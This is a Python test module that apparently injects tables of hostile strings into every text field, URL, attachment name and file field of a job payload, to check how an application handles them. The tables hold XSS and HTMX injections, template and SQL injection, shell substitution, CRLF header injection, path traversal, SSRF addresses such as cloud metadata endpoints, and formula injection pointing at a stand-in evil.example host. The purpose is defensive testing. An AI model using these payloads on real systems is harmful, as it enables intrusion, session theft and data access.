# ruff: noqa: E501 (tables: a case a line)
"""U089, U090, U114 to U129: hostile texts, addresses and names, in every field that holds a text.

`HOSTILE` is for other tests too: (row, name, text). `everywhere(value, text)` puts one text into every free field.
"""

import json
from collections.abc import Iterator
from typing import Any

from tests.misbehaving import job
from tests.misbehaving.bodies import changed
from tests.misbehaving.exchange import Exchange
from tests.misbehaving.table import fault

MARKUP = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>',
    "' onfocus='alert(1)' autofocus='", '" style="position:fixed;inset:0" x="', "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</pre></code><h1>gone</h1>", "</title><script>alert(1)</script>",
    "<svg/onload=alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<form action=//evil.example><input name=q>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example>", "<img src='//evil.example/?",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<x" * 200,
    "\u2028alert(1)\u2029", "<details open ontoggle=alert(1)>",
]  # fmt: skip
HTMX = [
    "<div hx-get=/accounts/logout/ hx-trigger=load></div>", "<div hx-on::load='alert(1)'></div>", '" hx-get="/teams/" hx-trigger="load',
    "<a data-hx-boost=true href=//evil.example>x</a>", "<div hx-swap-oob=true id=job>gone</div>", "<div id=job data-poll-ms=1></div>",
]  # fmt: skip
SYNTAX = [
    "{{ settings.SECRET_KEY }}", "{% load static %}{% debug %}", "{# x", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%s%s%n", "{0.__class__}",
    "{__import__}", "&lt;b&gt;", "&amp;lt;", "&#x3c;script&#x3e;", "\\u003cscript\\u003e", "\\x3cb\\x3e", "**bold** [x](javascript:alert(1))",
    "`code`{.state .sent}", "![x](//evil.example/x.png)", "$(id)", "`id`", "'; DROP TABLE jobs_team; --", "%00", "%0d%0aX: y", "\\", "\\'",
]  # fmt: skip
CONTROLS = [
    "data: x\n\nevent: job\ndata: <b>\n\n", "line one\nINFO login ok user=admin", "a\r\nSet-Cookie: x=1", "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x00\x01\x02\x07\x08\x0b\x0c\x0e\x1f\x7f", "\x80\x85\x9b", "a\tb", "\r\n" * 50, "\ufffe\uffff",
]  # fmt: skip
UNICODE = [
    "\u202egnp.ecioviN", "\u2066\u2067x\u2069", "\u202d" * 50, "ad\u200bmin\u200d\u2060\ufeff", "\u0430dmin", "Z\u0351\u036b\u0343" * 200,
    "\U0001f469\u200d\U0001f4bb\U0001f3f4\U000e0067\U000e0062\U000e007f", "\U00020000\U0010fffd", "\u0627\u0644\u0639 123 abc", "\u3000\u00a0",
    "\ufb01\uff21\u2460", "I\u0307\u0131\u1e9e", "\u115f\u1160\u3164",
]  # fmt: skip
LONG = ["w" * 20_000, "line\n" * 4_000, "word " * 20_000, "\u200b" * 20_000, "W\u0301" * 20_000, "<" * 20_000]
SLOW = [
    "http://" + "a." * 10_000,
    "<" * 50_000,
    "&" * 50_000,
    "www." * 10_000,
    "(" * 20_000 + "http://x",
    "a@" * 10_000,
    "\n" * 50_000,
]
LINKS = [
    "https://evil.example/login", "see www.evil.example now", "mailto:a@evil.example", "../../etc/passwd", "..\\..\\x", "/etc/passwd\0.pdf",
    "=HYPERLINK(\"http://evil.example\")", "+1+1", "-2+3", "@SUM(A1)", "|cmd", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "Bearer abc.def",
]  # fmt: skip
NOTHING = ["", " ", "   \t ", "\n"]
URLS = {
    "U123": [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "blob:https://x/1", "mailto:a@b", "tel:112",
        "intent://x#Intent;end", "ms-word:ofe|u|http://x", "spool:2026-W10-1-x.xml", "view-source:https://x/",
    ],
    "U124": [
        "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1/", "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://10.0.0.1/",
        "http://2130706433/", "http://0177.0.0.1/", "http://0x7f.1/", "http://127.1/", "http://127.0.0.1.nip.io/", "http://localhost./",
        "http://0.0.0.0/", "http://metadata.google.internal/",
    ],
    "U125": [
        "https://user:word@files.example.com/", "https://files.example.com@evil.example/", "https://evil.example\\@files.example.com/",
        "https:\\\\evil.example", "//evil.example/x", "/accounts/logout/", "x.pdf", "#job", "?q", "", "https://a/\r\nX: y", 'https://a/"onclick="x',
        "https://files.example.com/" + "x" * 100_000, "https://xn--e1afmkfd.example/", "https://\u0435xample.com/", "https://a:99999/", "https://a:x/",
        "https://", "https:///x", "https://a b/", "https://[::1", "https://%00/",
    ],
    "U126": [
        "http://files.example.com/x.pdf", "https://files.example.com:8443/x", "https://files.example.com/x?Signature=abc&Expires=1",
        "https://files.example.com/x.pdf?h=" + "0a" * 32,
    ],
}  # fmt: skip
NAMES = [
    "../../../etc/passwd", "..\\..\\x.exe", "a\r\nContent-Type: text/html", 'a".pdf', "a'.pdf", "\u202efdp.exe", "x.html", "n" * 5_000 + ".pdf",
    "CON", "nul.txt", "", "\0.pdf", "setup.exe", ".htaccess", "-rf", "a/b/c.pdf", "a;b|c.pdf", "~", "%2e%2e%2f",
]  # fmt: skip
FILES: dict[str, list[Any]] = {
    "size": ["12", -1, 10**30, 1.5, True, None, "big", []], "hash": ["", "xyz", "00" * 5_000, 7, None],
    "mime": ["text/html", "image/svg+xml", "x" * 5_000, "a/b\r\nX: y", 3, None, ""], "meta": [None, [], "x", {"a": {"b": 1}}, {"": None}],
    "url": [None, 3, {"href": "x"}, ["https://x"]], "name": [None, 3, {}, []], "private": ["yes", 1, None], "stored": [0, "", []],
}  # fmt: skip


def _hostile() -> Iterator[tuple[str, str, str]]:
    groups = {"U114": MARKUP, "U115": HTMX, "U116": SYNTAX, "U117": CONTROLS, "U118": UNICODE, "U119": LONG, "U120": SLOW,
              "U121": LINKS, "U122": NOTHING}  # fmt: skip
    for row, found in groups.items():
        for at, text in enumerate(found):
            yield row, f"{at} {text[:30]!a}", text


HOSTILE = list(_hostile())


def everywhere(value: Any, text: Any) -> Any:
    for path in job.texts():
        job.put(value, path, text)
    for path in (("args",), ("attachments", 0, "meta"), ("intents", 0, "events", 0, "args")):
        job.put(value, path, {"name": text, str(text): "value"})
    return value


def in_each_field(text: Any) -> Iterator[tuple[job.Path, Any]]:
    """Jobs with the text in one field each."""
    for path in job.texts():
        yield path, job.put(job.base(), path, text)


for _row, _name, _text in HOSTILE:
    changed(_row, _name, "partial" if _row == "U122" else "show", everywhere, _text)
for _row, _found in URLS.items():
    for _at, _url in enumerate(_found):
        changed(_row, f"{_at} {_url[:40]!a}", "show", job.put, ("attachments", 0, "url"), _url)
for _at, _file in enumerate(NAMES):
    changed(
        "U128",
        f"{_at} {_file[:30]!a}",
        "show",
        job.put,
        ("attachments", 0, "name"),
        _file,
    )
for _field, _values in FILES.items():
    for _at, _value in enumerate(_values):
        changed(
            "U129",
            f"{_field} {_at}",
            "partial",
            job.put,
            ("attachments", 0, _field),
            _value,
        )
for _field in ("key", "silo_entry_id", "workflow_id"):
    for _at, _odd in enumerate(("https://evil.example/", "<b onclick=alert(1)>", "../../x", "a" * 10_000, "\u202e")):
        changed("U090", f"{_field} {_at}", "show", job.put, (_field,), _odd)


@fault("U089", "a job that repeats our token", "show")
def _(exchange: Exchange) -> None:
    sent = exchange.asked.headers.get("authorization", "").removeprefix("Bearer ")
    exchange.keep = True
    exchange.answer(200, json.dumps(everywhere(job.base(exchange.job_id), sent)).encode())
